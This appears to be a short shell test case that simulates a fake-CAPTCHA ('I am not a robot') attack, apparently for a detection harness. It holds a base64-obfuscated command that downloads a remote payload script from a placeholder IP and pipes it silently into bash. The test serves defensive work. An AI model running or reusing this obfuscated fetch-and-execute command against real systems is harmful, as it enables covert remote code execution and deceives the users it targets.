#!/bin/sh
. /opt/case/case.sh

bash -c 'echo "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjEwL3BheWxvYWQuc2ggfCBub2h1cCBiYXNoID4vZGV2L251bGwgMj4mMQ==" | base64 -d | bash; clear; echo "I am not a robot: verification 4711"' >/dev/null 2>&1
wait_for /tmp/reached
echo
took_place
